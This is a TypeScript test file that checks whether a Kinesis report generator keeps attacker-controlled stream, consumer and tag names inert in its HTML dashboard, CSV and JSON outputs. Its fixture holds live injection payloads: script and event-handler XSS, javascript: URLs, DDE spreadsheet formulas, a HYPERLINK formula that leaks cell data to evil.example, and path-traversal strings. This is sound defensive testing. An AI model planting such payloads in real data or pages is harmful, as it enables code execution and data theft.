/**
 * Report safety: names and tag values are attacker-controlled text (anyone who can create a stream,
 * a consumer or a tag, or hand-edit a snapshot). Planted with HTML, script, quotes, formula prefixes
 * and newlines, they must stay inert in every report: in the dashboard (headless Chromium) only the
 * page's own script runs and every element comes from the template, no formula in the CSV, no path
 * escape in the remediation file names, exact text in JSON.
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, sep } from "node:path";
import { pathToFileURL } from "node:url";
import { parse as parseCsv } from "csv-parse/sync";
import type { Browser, Page } from "playwright-core";
import { launchChromium } from "../harness/chromium";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { analyzeSnapshot } from "../../live-checks/analyze";
import { defaultConfig } from "../../live-checks/config-file";
import { neutralizeFormula } from "../../live-checks/report/csv-safe";
import { POLLING_CONSUMERS } from "../../live-checks/report/consumer-lag";
import { dashboardScript } from "../../live-checks/report/dashboard-script";
import { writeReports } from "../../live-checks/report/write-reports";
import type { Snapshot } from "../../live-checks/snapshot";
import { fixtureSnapshot } from "../fixtures/analysis/fleet";


/** Each payload tries a different way to run code; all of them set window.__pwned. */
const HOSTILE = {
  stream: `=cmd|' /C calc'!A0<script>window.__pwned=1</script>"x'\n<img src=x onerror="window.__pwned=2">`,
  consumer: `=HYPERLINK("http://evil.example/?"&A1,"open")<svg onload="window.__pwned=3">`,
  deliveryStream: `+1+cmd|' /C calc'!A0</td></tr></table><iframe src="javascript:window.__pwned=4"></iframe>`,
  broken: `@SUM(1+1)\r\n-2+3<a href="javascript:window.__pwned=5">x</a>../../../../tmp/escape`,
  skipped: `-2+3\t<style>body{display:none}</style><object data="javascript:window.__pwned=6">`,
  tagValue: `line1\nline2</td><script>window.__pwned=7</script>{{constructor.constructor('window.__pwned=8')()}}`,
  errorMessage: `AccessDenied <script>window.__pwned=9</script> "quoted" 'single'`,
};

/** Rename a resource everywhere in the fixture: JSON values and metric-id dimensions. */
function rename(json: string, from: string, to: string, dimension: string): string {
  return json
    .split(JSON.stringify(from))
    .join(JSON.stringify(to))
    .split(`${dimension}=${from}`)
    .join(`${dimension}=${JSON.stringify(to).slice(1, -1)}`)
    .split(`/${from}`)
    .join(`/${JSON.stringify(to).slice(1, -1)}`);
}

function hostileSnapshot(): Snapshot {
  let json = JSON.stringify(fixtureSnapshot());
  json = rename(json, "telemetry", HOSTILE.stream, "StreamName");
  json = rename(json, "analytics", HOSTILE.consumer, "ConsumerName");
  json = rename(json, "clicks-to-s3", HOSTILE.deliveryStream, "DeliveryStreamName");
  json = rename(json, "broken", HOSTILE.broken, "StreamName");
  json = rename(json, "test-orders", HOSTILE.skipped, "StreamName");
  const snap = JSON.parse(json) as Snapshot;
  return {
    ...snap,
    streams: snap.streams.map((s) => ({ ...s, tags: { ...(s.tags as Record<string, string>), Owner: HOSTILE.tagValue, [HOSTILE.tagValue]: "key-too" } })),
    collection: {
      ...snap.collection,
      complete: false,
      errors: [...snap.collection.errors, { api: "Kinesis.ListTagsForStream", region: "us-east-1", resource: `stream/${HOSTILE.broken}`, message: HOSTILE.errorMessage }],
    },
  };
}

const dir = mkdtempSync(join(tmpdir(), "kg-safety-"));
const out = join(dir, "out");
/** The same fleet with its plain names: the hostile page must have exactly its elements. */
const clean = join(dir, "clean");
let browser: Browser;
let page: Page;
const pageErrors: string[] = [];
const external: string[] = [];

beforeAll(async () => {
  const snap = hostileSnapshot();
  await writeReports(analyzeSnapshot(snap, defaultConfig()), { outDir: out });
  const plain = fixtureSnapshot();
  await writeReports(analyzeSnapshot({ ...plain, collection: { ...plain.collection, complete: false, errors: [...plain.collection.errors, { api: "Kinesis.ListTagsForStream", region: "us-east-1", resource: "stream/broken", message: "AccessDenied" }] } }, defaultConfig()), { outDir: clean });
  browser = await launchChromium();
  page = await browser.newPage();
  page.on("pageerror", (e) => pageErrors.push(e.message));
  page.on("dialog", (d) => {
    pageErrors.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  await page.route("**/*", (route) => {
    const url = route.request().url();
    if (url.startsWith("file://")) return route.continue();
    external.push(url);
    return route.abort();
  });
  await page.goto(pathToFileURL(join(out, "throughput_utilization_dashboard.html")).href, { waitUntil: "load" });
  // Give any injected handler (onload/onerror) a chance to fire.
  await page.evaluate("new Promise((r) => setTimeout(r, 100))");
});

afterAll(async () => {
  await browser?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** Tag name -> count of every element of a page (in the browser: what the parser built, not the text). */
const TAG_COUNTS = `(() => { const n = {}; for (const e of document.querySelectorAll("*")) n[e.localName] = (n[e.localName] || 0) + 1; return n; })()`;

describe("dashboard (headless Chromium)", () => {
  it("runs only its own script and loads nothing: no handler fired, no active element injected", async () => {
    expect(await page.evaluate("typeof window.__pwned")).toBe("undefined");
    expect(pageErrors).toEqual([]);
    expect(external).toEqual([]);
    // the page's script ran (sort buttons, visible filters), and it is the only one
    expect(await page.locator("html").getAttribute("data-js")).toBe("on");
    expect(await page.locator("script").count()).toBe(1);
    expect(await page.locator("script").textContent()).toBe(dashboardScript().text);
    for (const tag of ["img", "iframe", "object", "embed", "form", "style:not(head style)", "svg script", "svg foreignObject"]) {
      expect(await page.locator(tag).count(), tag).toBe(0);
    }
  });

  it("has exactly the elements of the same page with plain names: every element comes from the template", async () => {
    const ctx = await browser.newContext({ javaScriptEnabled: false });
    try {
      const plain = await ctx.newPage();
      await plain.goto(pathToFileURL(join(clean, "throughput_utilization_dashboard.html")).href, { waitUntil: "load" });
      const hostile = await ctx.newPage();
      await hostile.goto(pathToFileURL(join(out, "throughput_utilization_dashboard.html")).href, { waitUntil: "load" });
      expect(await hostile.evaluate(TAG_COUNTS)).toEqual(await plain.evaluate(TAG_COUNTS));
    } finally {
      await ctx.close();
    }
  });

  it("has no event-handler attribute, and links only to its own sections and remediation stubs", async () => {
    const handlers = await page.evaluate(`[...document.querySelectorAll("*")].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => e.localName + " " + a.name))`);
    expect(handlers).toEqual([]);
    const hrefs = (await page.evaluate(`[...document.querySelectorAll("[href]")].map((e) => e.getAttribute("href"))`)) as string[];
    expect(hrefs.length).toBeGreaterThan(10);
    for (const h of hrefs) expect(h, h).toMatch(/^(#[a-z-]+|remediation\/[A-Za-z0-9_][A-Za-z0-9._-]*\.(ts|sh))$/);
  });

  it("shows every hostile string as text, exactly", async () => {
    const text = (await page.locator("body").textContent()) ?? "";
    const norm = (s: string) => s.replace(/\s+/g, " ");
    for (const [k, v] of Object.entries(HOSTILE)) {
      if (k === "tagValue") continue; // tag values are not shown on the dashboard
      expect(norm(text), k).toContain(norm(v));
    }
  });
});

describe("consumer_lag_report.csv", () => {
  const csvText = () => readFileSync(join(out, "consumer_lag_report.csv"), "utf8");

  it("stays one row per consumer with five cells, names quoted through newlines and quotes", () => {
    const rows = parseCsv(csvText(), { columns: true }) as Record<string, string>[];
    // the hostile stream's polling consumers (iterator age) and its enhanced fan-out consumer
    expect(rows).toHaveLength(2);
    expect(Object.keys(rows[0]!)).toEqual(["stream_name", "consumer_name", "max_lag_ms", "avg_lag_ms", "flagged"]);
    // The exact name survives behind the neutralizing apostrophe.
    expect(rows.map((r) => r.stream_name)).toEqual([`'${HOSTILE.stream}`, `'${HOSTILE.stream}`]);
    expect(rows.map((r) => r.consumer_name)).toEqual([POLLING_CONSUMERS, `'${HOSTILE.consumer}`]);
    expect(rows[1]!.max_lag_ms).toBe("12000");
  });

  it("has no cell a spreadsheet would evaluate as a formula", () => {
    const cells = (parseCsv(csvText()) as string[][]).flat();
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("neutralizes each formula prefix and leaves other text alone", () => {
    expect(["=1", "+1", "-1", "@A1", "\t=1", "\r=1"].map(neutralizeFormula)).toEqual(["'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]);
    expect(["orders", "a=1", "x-1", ""].map(neutralizeFormula)).toEqual(["orders", "a=1", "x-1", ""]);
  });
});

describe("JSON reports and remediation stubs", () => {
  it("kinesis_analysis.json parses and keeps the exact names (no neutralizing in JSON)", () => {
    const report = JSON.parse(readFileSync(join(out, "kinesis_analysis.json"), "utf8")) as { data_streams: { stream_name: string; tags: Record<string, string> }[]; skipped: { name: string }[] };
    expect(report.data_streams.map((s) => s.stream_name)).toContain(HOSTILE.stream);
    expect(report.data_streams.find((s) => s.stream_name === HOSTILE.stream)!.tags.Owner).toBe(HOSTILE.tagValue);
    expect(report.skipped.map((s) => s.name)).toContain(HOSTILE.skipped);
    JSON.parse(readFileSync(join(out, "shard_optimization_plan.json"), "utf8"));
  });

  it("writes every file inside --out, with names built from safe characters only", () => {
    const root = realpathSync(out);
    const walk = (d: string): string[] => readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(join(d, e.name)) : [join(d, e.name)]));
    const files = walk(out);
    expect(files.length).toBeGreaterThan(5);
    for (const f of files) {
      expect(realpathSync(f).startsWith(root + sep), f).toBe(true);
      expect(f.slice(out.length + 1), f).toMatch(/^(remediation\/)?[A-Za-z0-9_][A-Za-z0-9._-]*$/);
    }
    expect(existsSync(join(dir, "tmp", "escape"))).toBe(false);
    // No temp files left behind by the atomic writes.
    expect(files.filter((f) => /\.tmp$|\.old$/.test(f))).toEqual([]);
  });
});
